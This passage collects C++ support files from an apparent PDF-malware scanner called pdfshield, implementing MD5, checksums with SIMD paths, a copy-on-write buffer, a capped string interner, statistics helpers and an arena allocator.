                            5, 9,  14, 20, 5, 9,  14, 20, 4, 11, 16, 23,
                            4, 11, 16, 23, 4, 11, 16, 23, 4, 11, 16, 23,
                            6, 10, 15, 21, 6, 10, 15, 21, 6, 10, 15, 21,
                            6, 10, 15, 21};

// K[i] = floor(2^32 * abs(sin(i+1))), precomputed.
constexpr std::uint32_t kSine[64] = {
    0xd76aa478, 0xe8c7b756, 0x242070db, 0xc1bdceee, 0xf57c0faf, 0x4787c62a,
    0xa8304613, 0xfd469501, 0x698098d8, 0x8b44f7af, 0xffff5bb1, 0x895cd7be,
    0x6b901122, 0xfd987193, 0xa679438e, 0x49b40821, 0xf61e2562, 0xc040b340,
    0x265e5a51, 0xe9b6c7aa, 0xd62f105d, 0x02441453, 0xd8a1e681, 0xe7d3fbc8,
    0x21e1cde6, 0xc33707d6, 0xf4d50d87, 0x455a14ed, 0xa9e3e905, 0xfcefa3f8,
    0x676f02d9, 0x8d2a4c8a, 0xfffa3942, 0x8771f681, 0x6d9d6122, 0xfde5380c,
    0xa4beea44, 0x4bdecfa9, 0xf6bb4b60, 0xbebfbc70, 0x289b7ec6, 0xeaa127fa,
    0xd4ef3085, 0x04881d05, 0xd9d4d039, 0xe6db99e5, 0x1fa27cf8, 0xc4ac5665,
    0xf4292244, 0x432aff97, 0xab9423a7, 0xfc93a039, 0x655b59c3, 0x8f0ccc92,
    0xffeff47d, 0x85845dd1, 0x6fa87e4f, 0xfe2ce6e0, 0xa3014314, 0x4e0811a1,
    0xf7537e82, 0xbd3af235, 0x2ad7d2bb, 0xeb86d391};

std::uint32_t rotl(std::uint32_t x, int c) {
  return (x << c) | (x >> (32 - c));
}

void process_block(const std::uint8_t* block, std::uint32_t state[4]) {
  std::uint32_t m[16];
  for (int i = 0; i < 16; ++i) {
    m[i] = static_cast<std::uint32_t>(block[i * 4]) |
           (static_cast<std::uint32_t>(block[i * 4 + 1]) << 8) |
           (static_cast<std::uint32_t>(block[i * 4 + 2]) << 16) |
           (static_cast<std::uint32_t>(block[i * 4 + 3]) << 24);
  }
  std::uint32_t a = state[0], b = state[1], c = state[2], d = state[3];
  for (int i = 0; i < 64; ++i) {
    std::uint32_t f;
    int g;
    if (i < 16) {
      f = (b & c) | (~b & d);
      g = i;
    } else if (i < 32) {
      f = (d & b) | (~d & c);
      g = (5 * i + 1) % 16;
    } else if (i < 48) {
      f = b ^ c ^ d;
      g = (3 * i + 5) % 16;
    } else {
      f = c ^ (b | ~d);
      g = (7 * i) % 16;
    }
    const std::uint32_t tmp = d;
    d = c;
    c = b;
    b = b + rotl(a + f + kSine[i] + m[g], kShift[i]);
    a = tmp;
  }
  state[0] += a;
  state[1] += b;
  state[2] += c;
  state[3] += d;
}

}  // namespace

Md5Digest md5(BytesView data) {
  std::uint32_t state[4];
  std::memcpy(state, kInit, sizeof(state));

  // Process complete 64-byte blocks.
  std::size_t full = data.size() / 64 * 64;
  for (std::size_t off = 0; off < full; off += 64) {
    process_block(data.data() + off, state);
  }

  // Padding: 0x80, zeros, 64-bit little-endian bit length.
  std::uint8_t tail[128] = {0};
  const std::size_t rem = data.size() - full;
  // rem == 0 also covers empty input, whose data() may be null (memcpy
  // with a null source is UB even for zero lengths).
  if (rem != 0) std::memcpy(tail, data.data() + full, rem);
  tail[rem] = 0x80;
  const std::size_t tail_len = rem + 1 <= 56 ? 64 : 128;
  const std::uint64_t bit_len = static_cast<std::uint64_t>(data.size()) * 8;
  for (int i = 0; i < 8; ++i) {
    tail[tail_len - 8 + static_cast<std::size_t>(i)] =
        static_cast<std::uint8_t>(bit_len >> (8 * i));
  }
  process_block(tail, state);
  if (tail_len == 128) process_block(tail + 64, state);

  Md5Digest digest;
  for (int i = 0; i < 4; ++i) {
    digest[static_cast<std::size_t>(i * 4)] = static_cast<std::uint8_t>(state[i]);
    digest[static_cast<std::size_t>(i * 4 + 1)] =
        static_cast<std::uint8_t>(state[i] >> 8);
    digest[static_cast<std::size_t>(i * 4 + 2)] =
        static_cast<std::uint8_t>(state[i] >> 16);
    digest[static_cast<std::size_t>(i * 4 + 3)] =
        static_cast<std::uint8_t>(state[i] >> 24);
  }
  return digest;
}

std::string md5_hex(std::string_view text) {
  const Md5Digest d = md5(to_bytes(text));
  return hex_encode(BytesView(d.data(), d.size()));
}

}  // namespace pdfshield::support
