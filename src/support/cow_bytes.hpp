// Copy-on-write byte buffer for string and stream payloads. In the
// borrowed object model a freshly parsed document's payloads are views
// into the arena-held input buffer; they only become owning vectors when
// something actually mutates them (decompression, instrumentation,
// deinstrumentation). Reads are allocation-free either way.
#pragma once

#include <algorithm>
#include <cstddef>
#include <cstdint>
#include <utility>

#include "support/bytes.hpp"

namespace pdfshield::support {

/// Either a borrowed view or an owning buffer, presenting a uniform
/// read-only container face. Copying always materializes an owning deep
/// copy — a CowBytes copy never extends a borrow's lifetime requirements,
/// which is what makes plain `Object`/`Document` copies safely outlive the
/// arena they were parsed into. Moves preserve the mode.
class CowBytes {
 public:
  CowBytes() = default;
  // NOLINTNEXTLINE(google-explicit-constructor): Bytes is the owning form.
  CowBytes(Bytes owned) : owned_(std::move(owned)) {}

  /// Wraps `view` without copying. The caller guarantees the underlying
  /// storage (arena chunk or input buffer) outlives every borrowing read.
  static CowBytes borrow(BytesView view) {
    CowBytes b;
    b.borrowed_ = view;
    b.is_borrowed_ = true;
    return b;
  }

  CowBytes(const CowBytes& other)
      : owned_(other.begin(), other.end()) {}
  CowBytes& operator=(const CowBytes& other) {
    if (this != &other) {
      // Materialize through a temporary: `other` may be a borrow aliasing
      // this object's own owned_ buffer, and assign() into a reallocating
      // vector would read from freed storage.
      Bytes tmp(other.begin(), other.end());
      owned_ = std::move(tmp);
      borrowed_ = {};
      is_borrowed_ = false;
    }
    return *this;
  }
  CowBytes(CowBytes&&) noexcept = default;
  CowBytes& operator=(CowBytes&&) noexcept = default;
  ~CowBytes() = default;

  /// The read face: container-ish const access over either mode.
  BytesView view() const { return is_borrowed_ ? borrowed_ : BytesView(owned_); }
  // NOLINTNEXTLINE(google-explicit-constructor): reads flow through views.
  operator BytesView() const { return view(); }
  std::size_t size() const { return view().size(); }
  bool empty() const { return view().empty(); }
  const std::uint8_t* data() const { return view().data(); }
  const std::uint8_t* begin() const { return view().data(); }
  const std::uint8_t* end() const { return view().data() + view().size(); }
  std::uint8_t operator[](std::size_t i) const { return view()[i]; }

  bool borrowed() const { return is_borrowed_; }

  /// An owning snapshot of the current contents (the receiver keeps its
  /// mode; use owned() to materialize in place instead).
  Bytes copy() const { return Bytes(begin(), end()); }

  /// The write hook: materializes a private owning copy on first use and
  /// returns it for mutation. This is the single COW trigger point.
  Bytes& owned() {
    if (is_borrowed_) {
      owned_.assign(borrowed_.begin(), borrowed_.end());
      borrowed_ = {};
      is_borrowed_ = false;
    }
    return owned_;
  }

  /// Content equality regardless of mode.
  friend bool operator==(const CowBytes& a, const CowBytes& b) {
    return std::equal(a.begin(), a.end(), b.begin(), b.end());
  }
  friend bool operator==(const CowBytes& a, BytesView b) {
    return std::equal(a.begin(), a.end(), b.begin(), b.end());
  }
  // Exact match for owning buffers; without it, Bytes is convertible to
  // both BytesView and CowBytes and the comparison would be ambiguous.
  friend bool operator==(const CowBytes& a, const Bytes& b) {
    return std::equal(a.begin(), a.end(), b.begin(), b.end());
  }

 private:
  Bytes owned_;
  BytesView borrowed_{};
  bool is_borrowed_ = false;
};

}  // namespace pdfshield::support
