// MD5 (RFC 1321), required by the PDF standard security handler's key
// derivation (PDF Reference §3.5.2 Algorithm 3.2). Not for new designs —
// it exists here because the file format demands it.
#pragma once

#include <array>
#include <string>

#include "support/bytes.hpp"

namespace pdfshield::support {

using Md5Digest = std::array<std::uint8_t, 16>;

/// MD5 of a byte buffer.
Md5Digest md5(BytesView data);

/// Convenience: lowercase-hex digest of a string.
std::string md5_hex(std::string_view text);

}  // namespace pdfshield::support
