// Read-only memory-mapped file: the serve-mode spool ingest path. A
// spooled document is mapped, not read — the kernel pages it in lazily
// and the parse path borrows directly from the mapping (the PR 5 borrowed
// object model never copies undecoded bytes), so ingest is zero-copy end
// to end. The mapping is shared_ptr-owned and pinned by the in-flight
// scan request; it unmaps when the last owner (request or watcher) drops
// it, which makes hand-off to a work-stealing worker safe without any
// lifetime choreography.
#pragma once

#include <filesystem>
#include <memory>

#include "support/bytes.hpp"

namespace pdfshield::support {

class MappedFile {
 public:
  /// Maps `path` read-only; throws support::Error when the file cannot be
  /// opened, stat'd, or mapped. An empty file maps to an empty view.
  static std::shared_ptr<MappedFile> map(const std::filesystem::path& path);

  MappedFile(const MappedFile&) = delete;
  MappedFile& operator=(const MappedFile&) = delete;
  ~MappedFile();

  BytesView view() const {
    return {static_cast<const std::uint8_t*>(data_), size_};
  }
  std::size_t size() const { return size_; }

 private:
  MappedFile(void* data, std::size_t size) : data_(data), size_(size) {}

  void* data_ = nullptr;  ///< null for empty files (nothing mapped)
  std::size_t size_ = 0;
};

}  // namespace pdfshield::support
