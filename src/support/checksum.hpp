// Checksums used by the Flate/zlib container (Adler-32), corpus dedup
// (CRC-32) and hashing of feature names (FNV-1a).
#pragma once

#include <cstdint>

#include "support/bytes.hpp"

namespace pdfshield::support {

/// CRC-32 (IEEE 802.3 polynomial, reflected), as used by gzip/png.
std::uint32_t crc32(BytesView data, std::uint32_t seed = 0);

/// Adler-32 as required by the zlib container (RFC 1950).
std::uint32_t adler32(BytesView data, std::uint32_t seed = 1);

/// 64-bit FNV-1a over arbitrary bytes.
std::uint64_t fnv1a64(BytesView data);

/// 64-bit FNV-1a over a string.
std::uint64_t fnv1a64(std::string_view text);

}  // namespace pdfshield::support
