#include "support/stats.hpp"

#include <algorithm>
#include <cmath>

#include "support/error.hpp"

namespace pdfshield::support {

void RunningStats::add(double x) {
  if (n_ == 0) {
    min_ = max_ = x;
  } else {
    min_ = std::min(min_, x);
    max_ = std::max(max_, x);
  }
  ++n_;
  sum_ += x;
  const double delta = x - mean_;
  mean_ += delta / static_cast<double>(n_);
  m2_ += delta * (x - mean_);
}

double RunningStats::variance() const {
  if (n_ < 2) return 0.0;
  return m2_ / static_cast<double>(n_ - 1);
}

double RunningStats::stddev() const {
  return std::sqrt(variance());
}

double percentile(std::vector<double> values, double p) {
  if (values.empty()) throw LogicError("percentile of empty sample");
  std::sort(values.begin(), values.end());
  if (p <= 0) return values.front();
  if (p >= 100) return values.back();
  const double rank = p / 100.0 * static_cast<double>(values.size() - 1);
  const std::size_t lo = static_cast<std::size_t>(rank);
  const double frac = rank - static_cast<double>(lo);
  if (lo + 1 >= values.size()) return values.back();
  return values[lo] * (1.0 - frac) + values[lo + 1] * frac;
}

std::vector<CdfPoint> empirical_cdf(std::vector<double> values) {
  std::vector<CdfPoint> out;
  if (values.empty()) return out;
  std::sort(values.begin(), values.end());
  const double n = static_cast<double>(values.size());
  for (std::size_t i = 0; i < values.size(); ++i) {
    // Emit one point per distinct value, carrying the count of <= it.
    if (i + 1 == values.size() || values[i + 1] != values[i]) {
      out.push_back({values[i], static_cast<double>(i + 1) / n});
    }
  }
  return out;
}

double cdf_at(const std::vector<double>& values, double x) {
  if (values.empty()) return 0.0;
  std::size_t count = 0;
  for (double v : values) {
    if (v <= x) ++count;
  }
  return static_cast<double>(count) / static_cast<double>(values.size());
}

}  // namespace pdfshield::support
