// Exception hierarchy for pdfshield. Library code throws these; tools and
// the reader simulator catch at their API boundary (a malformed document
// must never take the host process down).
#pragma once

#include <stdexcept>
#include <string>

namespace pdfshield::support {

/// Root of all pdfshield errors.
class Error : public std::runtime_error {
 public:
  explicit Error(const std::string& what) : std::runtime_error(what) {}
};

/// Raised when parsing malformed input (PDF syntax, filters, Javascript).
class ParseError : public Error {
 public:
  explicit ParseError(const std::string& what) : Error("parse error: " + what) {}
};

/// Raised when decoding a filter/stream fails (corrupt Flate data, bad hex).
class DecodeError : public Error {
 public:
  explicit DecodeError(const std::string& what) : Error("decode error: " + what) {}
};

/// Raised when an operation is used contrary to its contract.
class LogicError : public Error {
 public:
  explicit LogicError(const std::string& what) : Error("logic error: " + what) {}
};

/// Raised by the simulated OS for invalid handles, denied operations, etc.
class SysError : public Error {
 public:
  explicit SysError(const std::string& what) : Error("sys error: " + what) {}
};

/// Raised by the Javascript engine for uncatchable host-level faults
/// (script exceptions use js::JsException instead).
class JsError : public Error {
 public:
  explicit JsError(const std::string& what) : Error("js error: " + what) {}
};

}  // namespace pdfshield::support
