#include "support/checksum.hpp"

#include <algorithm>
#include <array>
#include <cstddef>

#include "support/simd.hpp"

#if defined(__x86_64__) || defined(__i386__)
#include <immintrin.h>
#define PDFSHIELD_X86 1
#endif

namespace pdfshield::support {

namespace {

// ---------------------------------------------------------------------------
// CRC-32: slice-by-8. Eight derived tables let the loop fold 8 input bytes
// per iteration with 8 independent table loads instead of an 8-iteration
// byte/shift chain — the classic Intel "slicing" construction. Pure scalar
// (no dispatch): this IS the fallback path, and it is already ~5x the
// one-table loop.
// ---------------------------------------------------------------------------

using CrcTables = std::array<std::array<std::uint32_t, 256>, 8>;

CrcTables build_crc_tables() {
  CrcTables t{};
  for (std::uint32_t i = 0; i < 256; ++i) {
    std::uint32_t c = i;
    for (int k = 0; k < 8; ++k) c = (c & 1) ? 0xedb88320u ^ (c >> 1) : c >> 1;
    t[0][i] = c;
  }
  for (std::size_t k = 1; k < 8; ++k) {
    for (std::uint32_t i = 0; i < 256; ++i) {
      const std::uint32_t prev = t[k - 1][i];
      t[k][i] = (prev >> 8) ^ t[0][prev & 0xff];
    }
  }
  return t;
}

const CrcTables& crc_tables() {
  static const CrcTables tables = build_crc_tables();
  return tables;
}

// ---------------------------------------------------------------------------
// Adler-32. The scalar path defers the modulo over 5552-byte blocks (the
// largest count that cannot overflow 32-bit accumulators); the vector paths
// keep the same block structure but accumulate byte sums with psadbw and
// position-weighted sums with pmaddubsw, reducing per block in 64-bit.
// All paths compute the identical RFC 1950 value.
// ---------------------------------------------------------------------------

constexpr std::uint32_t kAdlerMod = 65521;

std::uint32_t adler32_scalar(const std::uint8_t* p, std::size_t n,
                             std::uint32_t seed) {
  std::uint32_t a = seed & 0xffff;
  std::uint32_t b = (seed >> 16) & 0xffff;
  std::size_t i = 0;
  while (i < n) {
    const std::size_t block = std::min<std::size_t>(5552, n - i);
    for (std::size_t j = 0; j < block; ++j) {
      a += p[i + j];
      b += a;
    }
    a %= kAdlerMod;
    b %= kAdlerMod;
    i += block;
  }
  return (b << 16) | a;
}

#if PDFSHIELD_X86

__attribute__((target("ssse3"))) std::uint32_t adler32_ssse3(
    const std::uint8_t* p, std::size_t n, std::uint32_t seed) {
  std::uint64_t a = seed & 0xffff;
  std::uint64_t b = (seed >> 16) & 0xffff;
  const __m128i zero = _mm_setzero_si128();
  const __m128i weights =
      _mm_setr_epi8(16, 15, 14, 13, 12, 11, 10, 9, 8, 7, 6, 5, 4, 3, 2, 1);
  const __m128i ones16 = _mm_set1_epi16(1);
  while (n >= 16) {
    // Block of whole 16-byte chunks; 5552 rounded down keeps every lane
    // accumulator far from overflow.
    std::size_t k = std::min<std::size_t>(n & ~std::size_t{15}, 5536);
    n -= k;
    const std::uint64_t klen = k;
    __m128i vs1 = zero;        // running byte sum (2 x u64 lanes via psadbw)
    __m128i vs1_prior = zero;  // sum of vs1 values before each chunk
    __m128i vs2 = zero;        // within-chunk weighted sums (4 x u32 lanes)
    for (; k >= 16; k -= 16) {
      const __m128i chunk =
          _mm_loadu_si128(reinterpret_cast<const __m128i*>(p));
      p += 16;
      vs1_prior = _mm_add_epi64(vs1_prior, vs1);
      vs1 = _mm_add_epi64(vs1, _mm_sad_epu8(chunk, zero));
      const __m128i mad = _mm_maddubs_epi16(chunk, weights);
      vs2 = _mm_add_epi32(vs2, _mm_madd_epi16(mad, ones16));
    }
    alignas(16) std::uint64_t s1[2];
    alignas(16) std::uint64_t sp[2];
    alignas(16) std::uint32_t s2[4];
    _mm_store_si128(reinterpret_cast<__m128i*>(s1), vs1);
    _mm_store_si128(reinterpret_cast<__m128i*>(sp), vs1_prior);
    _mm_store_si128(reinterpret_cast<__m128i*>(s2), vs2);
    const std::uint64_t sum1 = s1[0] + s1[1];
    const std::uint64_t prior = sp[0] + sp[1];
    const std::uint64_t sum2 =
        static_cast<std::uint64_t>(s2[0]) + s2[1] + s2[2] + s2[3];
    b = (b + klen * a + 16 * prior + sum2) % kAdlerMod;
    a = (a + sum1) % kAdlerMod;
  }
  // Tail (< 16 bytes): scalar, seeded with the vector state.
  return adler32_scalar(p, n,
                        static_cast<std::uint32_t>((b << 16) | a));
}

__attribute__((target("avx2"))) std::uint32_t adler32_avx2(
    const std::uint8_t* p, std::size_t n, std::uint32_t seed) {
  std::uint64_t a = seed & 0xffff;
  std::uint64_t b = (seed >> 16) & 0xffff;
  const __m256i zero = _mm256_setzero_si256();
  const __m256i weights = _mm256_setr_epi8(
      32, 31, 30, 29, 28, 27, 26, 25, 24, 23, 22, 21, 20, 19, 18, 17, 16, 15,
      14, 13, 12, 11, 10, 9, 8, 7, 6, 5, 4, 3, 2, 1);
  const __m256i ones16 = _mm256_set1_epi16(1);
  while (n >= 32) {
    std::size_t k = std::min<std::size_t>(n & ~std::size_t{31}, 5536);
    n -= k;
    const std::uint64_t klen = k;
    __m256i vs1 = zero;
    __m256i vs1_prior = zero;
    __m256i vs2 = zero;
    for (; k >= 32; k -= 32) {
      const __m256i chunk =
          _mm256_loadu_si256(reinterpret_cast<const __m256i*>(p));
      p += 32;
      vs1_prior = _mm256_add_epi64(vs1_prior, vs1);
      vs1 = _mm256_add_epi64(vs1, _mm256_sad_epu8(chunk, zero));
      const __m256i mad = _mm256_maddubs_epi16(chunk, weights);
      vs2 = _mm256_add_epi32(vs2, _mm256_madd_epi16(mad, ones16));
    }
    alignas(32) std::uint64_t s1[4];
    alignas(32) std::uint64_t sp[4];
    alignas(32) std::uint32_t s2[8];
    _mm256_store_si256(reinterpret_cast<__m256i*>(s1), vs1);
    _mm256_store_si256(reinterpret_cast<__m256i*>(sp), vs1_prior);
    _mm256_store_si256(reinterpret_cast<__m256i*>(s2), vs2);
    const std::uint64_t sum1 = s1[0] + s1[1] + s1[2] + s1[3];
    const std::uint64_t prior = sp[0] + sp[1] + sp[2] + sp[3];
    std::uint64_t sum2 = 0;
    for (const std::uint32_t v : s2) sum2 += v;
    b = (b + klen * a + 32 * prior + sum2) % kAdlerMod;
    a = (a + sum1) % kAdlerMod;
  }
  return adler32_scalar(p, n,
                        static_cast<std::uint32_t>((b << 16) | a));
}

#endif  // PDFSHIELD_X86

}  // namespace

std::uint32_t crc32(BytesView data, std::uint32_t seed) {
  const CrcTables& t = crc_tables();
  std::uint32_t c = seed ^ 0xffffffffu;
  const std::uint8_t* p = data.data();
  std::size_t n = data.size();
  while (n >= 8) {
    // Endian-independent composition; compiles to two 32-bit loads on
    // little-endian targets.
    const std::uint32_t lo =
        static_cast<std::uint32_t>(p[0]) |
        (static_cast<std::uint32_t>(p[1]) << 8) |
        (static_cast<std::uint32_t>(p[2]) << 16) |
        (static_cast<std::uint32_t>(p[3]) << 24);
    const std::uint32_t hi =
        static_cast<std::uint32_t>(p[4]) |
        (static_cast<std::uint32_t>(p[5]) << 8) |
        (static_cast<std::uint32_t>(p[6]) << 16) |
        (static_cast<std::uint32_t>(p[7]) << 24);
    c ^= lo;
    c = t[7][c & 0xff] ^ t[6][(c >> 8) & 0xff] ^ t[5][(c >> 16) & 0xff] ^
        t[4][c >> 24] ^ t[3][hi & 0xff] ^ t[2][(hi >> 8) & 0xff] ^
        t[1][(hi >> 16) & 0xff] ^ t[0][hi >> 24];
    p += 8;
    n -= 8;
  }
  for (std::size_t i = 0; i < n; ++i) {
    c = t[0][(c ^ p[i]) & 0xff] ^ (c >> 8);
  }
  return c ^ 0xffffffffu;
}

std::uint32_t adler32(BytesView data, std::uint32_t seed) {
#if PDFSHIELD_X86
  if (simd::have(simd::Level::kAVX2)) {
    return adler32_avx2(data.data(), data.size(), seed);
  }
  if (simd::have(simd::Level::kSSSE3)) {
    return adler32_ssse3(data.data(), data.size(), seed);
  }
#endif
  return adler32_scalar(data.data(), data.size(), seed);
}

std::uint64_t fnv1a64(BytesView data) {
  std::uint64_t h = 0xcbf29ce484222325ULL;
  for (std::uint8_t b : data) {
    h ^= b;
    h *= 0x100000001b3ULL;
  }
  return h;
}

std::uint64_t fnv1a64(std::string_view text) {
  std::uint64_t h = 0xcbf29ce484222325ULL;
  for (char c : text) {
    h ^= static_cast<std::uint8_t>(c);
    h *= 0x100000001b3ULL;
  }
  return h;
}

}  // namespace pdfshield::support
