#include "support/checksum.hpp"

#include <array>

namespace pdfshield::support {

namespace {

std::array<std::uint32_t, 256> build_crc_table() {
  std::array<std::uint32_t, 256> table{};
  for (std::uint32_t i = 0; i < 256; ++i) {
    std::uint32_t c = i;
    for (int k = 0; k < 8; ++k) c = (c & 1) ? 0xedb88320u ^ (c >> 1) : c >> 1;
    table[i] = c;
  }
  return table;
}

}  // namespace

std::uint32_t crc32(BytesView data, std::uint32_t seed) {
  static const std::array<std::uint32_t, 256> kTable = build_crc_table();
  std::uint32_t c = seed ^ 0xffffffffu;
  for (std::uint8_t b : data) c = kTable[(c ^ b) & 0xff] ^ (c >> 8);
  return c ^ 0xffffffffu;
}

std::uint32_t adler32(BytesView data, std::uint32_t seed) {
  constexpr std::uint32_t kMod = 65521;
  std::uint32_t a = seed & 0xffff;
  std::uint32_t b = (seed >> 16) & 0xffff;
  std::size_t i = 0;
  while (i < data.size()) {
    // Process in blocks of 5552 (largest n with no 32-bit overflow).
    std::size_t block = std::min<std::size_t>(5552, data.size() - i);
    for (std::size_t j = 0; j < block; ++j) {
      a += data[i + j];
      b += a;
    }
    a %= kMod;
    b %= kMod;
    i += block;
  }
  return (b << 16) | a;
}

std::uint64_t fnv1a64(BytesView data) {
  std::uint64_t h = 0xcbf29ce484222325ULL;
  for (std::uint8_t b : data) {
    h ^= b;
    h *= 0x100000001b3ULL;
  }
  return h;
}

std::uint64_t fnv1a64(std::string_view text) {
  std::uint64_t h = 0xcbf29ce484222325ULL;
  for (char c : text) {
    h ^= static_cast<std::uint8_t>(c);
    h *= 0x100000001b3ULL;
  }
  return h;
}

}  // namespace pdfshield::support
