// Process-wide string interning for PDF name spellings. Names repeat
// massively across documents (/Type, /Length, /JavaScript, ...), so the
// borrowed object model stores every pdf::Name as a string_view into this
// table: one stable copy per distinct spelling, equality on view contents,
// zero per-document allocation once the vocabulary is warm.
#pragma once

#include <cstddef>
#include <cstdint>
#include <shared_mutex>
#include <string>
#include <string_view>
#include <unordered_set>

namespace pdfshield::support {

/// Thread-safe append-only intern table. Lookups take a shared lock and,
/// thanks to C++20 heterogeneous lookup, allocate nothing on a hit.
/// std::unordered_set is node-based, so stored strings never move and the
/// returned views stay valid for the life of the process.
class StringInterner {
 public:
  /// Returns a stable view whose contents equal `s`; interning the same
  /// spelling twice returns a view of the same storage.
  std::string_view intern(std::string_view s);

  std::size_t size() const;
  /// Total characters held, a coarse memory gauge for diagnostics.
  std::size_t bytes() const;

 private:
  struct Hash {
    using is_transparent = void;
    std::size_t operator()(std::string_view s) const noexcept {
      return std::hash<std::string_view>{}(s);
    }
  };
  struct Eq {
    using is_transparent = void;
    bool operator()(std::string_view a, std::string_view b) const noexcept {
      return a == b;
    }
  };

  mutable std::shared_mutex mutex_;
  std::unordered_set<std::string, Hash, Eq> table_;
  std::size_t bytes_ = 0;
};

/// The table backing every pdf::Name in the process.
StringInterner& name_table();

}  // namespace pdfshield::support
