// Process-wide string interning for PDF name spellings. Names repeat
// massively across documents (/Type, /Length, /JavaScript, ...), so the
// borrowed object model stores every pdf::Name as a string_view into this
// table: one stable copy per distinct spelling, equality on view contents,
// zero per-document allocation once the vocabulary is warm.
//
// The table is append-only for the life of the process, so its growth is
// capped: attacker-controlled input can mint unboundedly many distinct
// spellings (/JavaScr#69pt alone has combinatorially many hex-escape
// variants), and a long-running batch scanner must not leak memory across
// documents. Parse paths intern through intern_stable(), which stops
// inserting at the cap and hands the caller's (document-stable) view back;
// intern() is reserved for the program's own finite vocabulary.
#pragma once

#include <cstddef>
#include <cstdint>
#include <shared_mutex>
#include <string>
#include <string_view>
#include <unordered_set>

namespace pdfshield::support {

/// Thread-safe append-only intern table with capped growth. Lookups take a
/// shared lock and, thanks to C++20 heterogeneous lookup, allocate nothing
/// on a hit. std::unordered_set is node-based, so stored strings never
/// move and the returned views stay valid for the life of the process.
class StringInterner {
 public:
  /// Growth caps. Generous for any legitimate vocabulary (real corpora use
  /// a few thousand distinct name spellings), tight enough that
  /// adversarial documents cannot grow process-lifetime memory without
  /// bound through intern_stable().
  static constexpr std::size_t kMaxEntries = 1U << 15;
  static constexpr std::size_t kMaxBytes = 4 * 1024 * 1024;

  /// Returns a stable view whose contents equal `s`; interning the same
  /// spelling twice returns a view of the same storage. Unbounded: callers
  /// must only feed program-defined vocabulary (literals, fixed keys),
  /// never attacker-derived spellings — those go through intern_stable().
  std::string_view intern(std::string_view s);

  /// Bounded variant for attacker-derived spellings whose storage is
  /// already stable for the caller's required lifetime (the parse path:
  /// views into the document buffer or its arena). Returns the table's
  /// copy on a hit, inserts while under the caps, and once full returns
  /// `s` itself — so process memory stays bounded and only overflow
  /// spellings fall back to document-scoped storage.
  std::string_view intern_stable(std::string_view s);

  std::size_t size() const;
  /// Total characters held, a coarse memory gauge for diagnostics.
  std::size_t bytes() const;

 private:
  std::string_view intern_impl(std::string_view s, bool bounded);

  struct Hash {
    using is_transparent = void;
    std::size_t operator()(std::string_view s) const noexcept {
      return std::hash<std::string_view>{}(s);
    }
  };
  struct Eq {
    using is_transparent = void;
    bool operator()(std::string_view a, std::string_view b) const noexcept {
      return a == b;
    }
  };

  mutable std::shared_mutex mutex_;
  std::unordered_set<std::string, Hash, Eq> table_;
  std::size_t bytes_ = 0;
};

/// The table backing every pdf::Name in the process.
StringInterner& name_table();

}  // namespace pdfshield::support
