// ASCII table printer used by every bench binary to render the paper's
// tables/figures in a uniform, diff-friendly format.
#pragma once

#include <iosfwd>
#include <string>
#include <vector>

namespace pdfshield::support {

class TextTable {
 public:
  /// Sets the column headers; all rows must have the same arity.
  explicit TextTable(std::vector<std::string> headers);

  /// Appends a row. Throws LogicError on arity mismatch.
  void add_row(std::vector<std::string> cells);

  /// Renders with aligned columns, a header rule, and `title` on top.
  std::string render(const std::string& title = {}) const;

  /// Convenience: render to a stream.
  friend std::ostream& operator<<(std::ostream& os, const TextTable& t);

 private:
  std::vector<std::string> headers_;
  std::vector<std::vector<std::string>> rows_;
};

}  // namespace pdfshield::support
