#include "support/arena.hpp"

#include <cstring>
#include <new>

#include "support/alloc_stats.hpp"

#if defined(__SANITIZE_ADDRESS__)
#define PDFSHIELD_ASAN 1
#elif defined(__has_feature)
#if __has_feature(address_sanitizer)
#define PDFSHIELD_ASAN 1
#endif
#endif

#ifdef PDFSHIELD_ASAN
#include <sanitizer/asan_interface.h>
#endif

namespace pdfshield::support {

Arena::~Arena() {
#ifdef PDFSHIELD_ASAN
  // Chunks are about to be freed for real; lift the reset() poison so the
  // allocator's own bookkeeping is not flagged.
  for (const Chunk& chunk : chunks_) {
    ASAN_UNPOISON_MEMORY_REGION(chunk.data.get(), chunk.size);
  }
#endif
  AllocStats::note_release(reserved_);
}

void* Arena::unpoison(void* p, std::size_t bytes) {
#ifdef PDFSHIELD_ASAN
  ASAN_UNPOISON_MEMORY_REGION(p, bytes);
#else
  (void)bytes;
#endif
  return p;
}

void Arena::poison_chunk(const Chunk& chunk) {
#ifdef PDFSHIELD_ASAN
  ASAN_POISON_MEMORY_REGION(chunk.data.get(), chunk.size);
#elif !defined(NDEBUG)
  // Deterministic garbage: a use-after-reset read surfaces as 0xDD bytes
  // instead of silently seeing the previous document's data.
  std::memset(chunk.data.get(), 0xDD, chunk.size);
#else
  (void)chunk;
#endif
}

void* Arena::allocate_slow(std::size_t bytes, std::size_t align) {
  // Account the tail of the chunk we are abandoning.
  used_ += static_cast<std::size_t>(limit_ - cursor_);

  // Prefer a retained chunk from an earlier pass; they are visited in
  // order, so steady-state reuse replays the same chunk sequence.
  std::size_t next = chunks_.empty() ? 0 : active_ + 1;
  while (next < chunks_.size() && chunks_[next].size < bytes + align) {
    used_ += chunks_[next].size;  // skipped: too small for this request
    ++next;
  }
  if (next >= chunks_.size()) {
    std::size_t size = next_chunk_;
    if (size < bytes + align) size = bytes + align;
    Chunk chunk;
    chunk.data = std::make_unique_for_overwrite<std::uint8_t[]>(size);
    chunk.size = size;
    chunks_.push_back(std::move(chunk));
    reserved_ += size;
    ++chunk_allocations_;
    AllocStats::note_object(size);
    if (next_chunk_ < kMaxChunk) next_chunk_ *= 2;
    poison_chunk(chunks_.back());
  }
  active_ = next;
  cursor_ = chunks_[active_].data.get();
  limit_ = cursor_ + chunks_[active_].size;

  const auto misalign = reinterpret_cast<std::uintptr_t>(cursor_) & (align - 1);
  const std::size_t pad = misalign != 0 ? align - misalign : 0;
  std::uint8_t* p = cursor_ + pad;
  cursor_ = p + bytes;
  used_ += bytes + pad;
  return unpoison(p, bytes);
}

void Arena::reset() {
  if (used_ > high_water_) high_water_ = used_;
  used_ = 0;
  ++resets_;
  // Retain chunks in allocation order until the capacity budget is spent,
  // release the rest. Steady-state workloads stay below the budget and
  // keep the replay guarantee (chunk_allocations() flat across passes); a
  // pathological document's excess capacity is handed back instead of
  // being carried by the worker for the rest of the process.
  std::size_t kept_bytes = 0;
  std::size_t keep = 0;
  for (std::size_t i = 0; i < chunks_.size(); ++i) {
    if (kept_bytes + chunks_[i].size <= kMaxRetainedBytes) {
      kept_bytes += chunks_[i].size;
      if (keep != i) chunks_[keep] = std::move(chunks_[i]);
      ++keep;
    } else {
